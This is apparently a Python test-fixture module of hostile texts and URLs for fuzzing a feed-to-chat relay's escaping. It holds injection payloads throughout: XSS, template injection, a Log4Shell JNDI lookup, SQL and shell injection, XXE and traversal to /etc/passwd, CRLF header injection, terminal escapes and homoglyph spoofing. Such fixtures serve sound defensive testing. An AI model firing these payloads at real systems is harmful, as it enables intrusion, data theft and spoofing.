"""What feeds could say to be more than text: hostile texts and addresses, by hand and by combination."""

from itertools import product

_HTML = r"""
<b>bold</b>
</b></i></u></code></a></blockquote>
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<a href="https://evil.example/">Reuters</a>
<a href='javascript:alert(1)'>click</a>
<a href="tg://user?id=42">admin</a>
<a href="https://matrix.to/#/@admin:matrix.org">admin</a>
<tg-spoiler>x</tg-spoiler><tg-emoji emoji-id="5368324170671202286">x</tg-emoji>
<blockquote expandable>x</blockquote>
<pre><code class="language-python">x</code></pre>
<!-- comment --><!DOCTYPE html>
<![CDATA[ <b>x</b> ]]>
]]><script>x</script><![CDATA[
]]>
<?xml version="1.0"?><?php echo 1 ?>
<svg/onload=alert(1)>
<style>*{display:none}</style>
<iframe src=//evil.example></iframe>
<font data-mx-color="#ff0000">red</font>
<span data-mx-maths="\frac{1}{2}">x</span><span data-mx-spoiler>x</span>
<mx-reply>x</mx-reply>
<base href="https://evil.example/"><meta http-equiv=refresh content=0>
<form action=https://evil.example><input name=q>
"><b>x</b>
'><b>x</b>
" onmouseover="alert(1)
' onmouseover='alert(1)
</title><b>x</b>
</textarea></script><b>x</b>
&lt;b&gt;bold&lt;/b&gt;
&amp;lt;b&amp;gt;
&#60;b&#62;x&#60;/b&#62;
&#x3c;script&#x3e;
&lt &gt &amp &quot &apos
&unknown; &#0; &#xD800; &#x110000;
<b
b>
<
>
&
<<b>>
<b/><b/>
<B>x</B><sCrIpT>
<b foo="
＜b＞fullwidth＜/b＞
<a href=https://evil.example/>
</p><p align=right>x
<!ENTITY x SYSTEM "file:///etc/passwd">&x;
<!DOCTYPE a [<!ENTITY b "bbbb">]>&b;&b;
"""

_MARKDOWN = r"""
**bold** __under__ *it* _it_ ~~gone~~ ~gone~
***both*** ___both___
||spoiler|| ==mark== ^up^ ~down~
`code` ``co`de`` ```block```
```python
[click](https://evil.example/)
[click](<https://evil.example/>)
[click](https://evil.example/ "title")
[click][1]
[1]: https://evil.example/
[https://reuters.com](https://evil.example/)
![pic](https://evil.example/x.png)
<https://evil.example/>
<mailto:a@evil.example>
# heading
## heading
-# small
> quote
>>> quote
- list
* list
+ list
1. list
1) list
- [ ] task
---
***
===
| a | b |
|---|---|
    code
\*not bold\*
\\**bold**
\
\\
\`code`
]( https://evil.example/ )
](https://evil.example/)
[](https://evil.example/)
[[x]](https://evil.example/)
[a](https://evil.example/)[b](https://evil.example/)
[x](javascript:alert(1))
[x](data:text/html,x)
[x](tg://user?id=1)
[x](mailto:a@evil.example)
$\frac{1}{2}$ $$x$$
:smile: :+1: :rocket: <:name:123456789012345678> <a:name:123456789012345678>
*a*b*c*
**
*
_
`
~
|
[
]
(
)
!
__init__ snake_case_name
a*b a_b a`b a~b
2*3*4 = 24
text\
"""

_MENTIONS = r"""
@everyone
@here
@channel
@all
@room
@admin
@admin please look
mail@evil.example
@@admin
@ everyone
＠everyone
<!channel>
<!here>
<!everyone>
<!subteam^S123|team>
<!date^1392734382^{date}|x>
<@U1>
<@U024BE7LH|admin>
<#C024BE7LR>
<#C024BE7LR|general>
<https://evil.example/|Reuters>
<mailto:a@evil.example|mail>
&lt;!channel&gt;
<@&123456789012345678>
<@123456789012345678>
<@!123456789012345678>
<#123456789012345678>
</command:123456789012345678>
<t:1618953630:R>
<id:customize>
@admin:matrix.org
#room:matrix.org
!id:matrix.org
matrix:u/admin:matrix.org
https://matrix.to/#/@admin:matrix.org
#hashtag #2026 #ニュース
$TSLA $BTC
/start /ban@admin /mute 24h
/all
~town-square
++town
+1 202 555 0123
+12025550123
tel:+12025550123
4111 1111 1111 1111
t.me/joinchat/AAAA
tg://resolve?domain=evil
evil.example/login
www.evil.example
evil.example
https://evil.example/login?user=1&next=2
http://evil.example
ftp://evil.example/x
javascript:alert(1)
data:text/html;base64,PHNjcmlwdD4=
vbscript:msgbox(1)
file:///etc/passwd
mailto:a@evil.example?subject=x
magnet:?xt=urn:btih:x
smb://evil.example/share
bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT
192.168.0.1:8080
[::1]:80
"""

_PROTOCOLS = r"""
{"text": "x"}
", "mentions": {"parsed": ["everyone"]}, "x": \"
\", \"parse_mode\": \"HTML
\u003cb\u003e \x3cb\x3e \74b\76
'; DROP TABLE alerts; --
{{ 7*7 }} {{ config }} {% for x in y %} {# x #}
{{ ''.__class__.__mro__[1].__subclasses__() }}
${7*7} ${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %> [[7*7]]
%s %d %n %(name)s {0} {name} {0.__class__} {} %%
{0:>1000000000}
`id` $(id) ; id | id && id
../../../etc/passwd
title: x; click: https://evil.example; actions: view, x, https://evil.example
=HYPERLINK("https://evil.example")
=?utf-8?b?PGI+?=
=?utf-8?q?=0D=0ABcc:_a@evil.example?=
%0d%0aBcc:%20a@evil.example
%3Cscript%3E
x&parse_mode=HTML&chat_id=1
x=1&y=2;z=3#frag?q
<link/><guid>x</guid></item><item><title>
<entry><id>x</id></entry>
--boundary--
.
..
null
true
NaN
0
-1e999
"""

_UNPRINTABLE = [
    "line\r\nBcc: a@evil.example",
    "line\nX-Title: evil",
    "line\rSubject: evil",
    "line\n\n<b>body</b>",
    "line\n> quote\n# heading\n- list",
    "line\n.\nQUIT",
    "line\n--boundary\nContent-Type: text/html\n\n<b>x</b>",
    "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "null\x00byte",
    "\x00",
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07",
    "\x1b]0;title\x07",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31mred",
    "\x1b",
    "\x1b[",
    "bell\x07 back\x08\x08 delete\x7f",
    "\u202eevil\u202c",
    "\u202dforced\u2066isolate\u2067",
    "\u2068\u2068\u2068",
    "\u2069\u2069\u2069",
    "\u200eleft\u200fright\u061carabic",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "@\u200beveryone @\u2060everyone",
    "<\u200bb>x</\u200bb>",
    "**\u200bbold\u200b**",
    "[x](https:\u200b//evil.example/)",
    "\u200b",
    "\u200b\u200c\u200d\ufeff",
    "\u00ad\u00ad",
    "\ud800",
    "\udfff\ud800",
    "\ud83d",
    "\ufffe\uffff",
    "\ufdd1\ufde0evil\ufdd0\ufdd2bold\ufdd0\ufdef",
    "\U000e0041\U000e0042 tags",
    "Z" + "\u0300" * 200 + "algo",
    "\u0e49" * 50,
    "עברית <b>x</b> עברית",
    "العربية @admin https://evil.example/",
    "هجوم\u202e**evil**",
    "\U0001f1f1\U0001f1e7\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u3164\u2800\uffa0",
    "   ",
    "",
    "\t\t",
    "раypal.com",
    "https://раypal.com/",
    "https://xn--pypal-4ve.com/",
    "evil\u3002example",
    "evil\uff0eexample",
    "https\uff1a//evil.example",
    "x" * 700,
    "<b>" * 700,
    "**" * 700,
    "&" * 700,
    "[" * 700,
    "`" * 700,
    "\\" * 700,
    "@a " * 200,
    "https://evil.example/ " * 60,
    "😀" * 700,
    "한" * 700,
    "> " * 700,
    "<" * 700 + "b" + ">" * 700,
    '"' * 700,
]

_CORES = (
    "<b>x</b>",
    "**x**",
    "[x](https://evil.example/)",
    "@everyone",
    "<!channel>",
    "https://evil.example/",
    "`x`",
    "{{ x }}",
    "&lt;b&gt;",
    '"x"',
    "/start",
    "#tag",
)
_ROUND = (
    "Rockets {} base",
    "{}{}",
    "*{}*",
    "`{}`",
    "({})",
    "[{}]",
    "<{}>",
    '"{}"',
    "\\{}",
    "a{}b",
    "\u202e{}",
    "x\n{}\ny",
    "ا {} ب",
    "{}\u200b",
    "&{};",
)


def _combined() -> list[str]:
    return [around.replace("{}", core) for core, around in product(_CORES, _ROUND)]


TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_HTML.strip("\n").split("\n"),
            *_MARKDOWN.strip("\n").split("\n"),
            *_MENTIONS.strip("\n").split("\n"),
            *_PROTOCOLS.strip("\n").split("\n"),
            *_UNPRINTABLE,
            *_combined(),
        ]
    )
)
"""Hostile texts."""

ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>x</script>",
    "tg://user?id=1",
    "tg:user?id=1",
    "vbscript:x",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "mailto:a@evil.example",
    "//evil.example/",
    "/relative",
    "https:evil.example",
    "https:///evil.example",
    "http://",
    "https://user:password@news.example/",
    "https://news.example@evil.example/",
    'https://news.example/"onclick="alert(1)',
    "https://news.example/'onclick='alert(1)",
    "https://news.example/<b>x</b>",
    "https://news.example/)**bold**(",
    "https://news.example/](https://evil.example/)",
    "https://news.example/>|evil<",
    "https://news.example/|<!channel>",
    "https://news.example/`code`",
    "https://news.example/ with space",
    "https://news.example/\r\nBcc: a@evil.example",
    "https://news.example/\x00null",
    "https://news.example/\u202egpj.exe",
    "https://news.example/\u200b",
    "https://news.example/{{ x }}",
    "https://news.example/%0d%0aX: y",
    "https://news.example/?a=1&b=<b>&c=&lt;",
    "https://news.example/#]]><x>",
    "https://news.example/\\evil",
    "https://news.example\\@evil.example/",
    "https://news.example:99999/",
    "https://news.example:80:80/",
    "https://[::1]/",
    "https://[::1",
    "https://раypal.com/",
    "https://evil\u3002example/",
    "https://matrix.to/#/@admin:matrix.org",
    "https://matrix.to/#/#room:matrix.org",
    "HTTPS://MATRIX.TO/#/@admin:matrix.org",
    "https://t.me/share/url?url=evil",
    "https://news.example/" + "a" * 3000,
    "https://" + "a" * 300 + ".example/",
    "https://news.example/\ud800",
    "https://-.example/",
    "https://news..example/",
    "https://news.example/$(id)`id`",
    "https://news.example/@everyone",
    "https://news.example/@here|x",
    "",
    " ",
    "x",
)
"""Hostile addresses."""
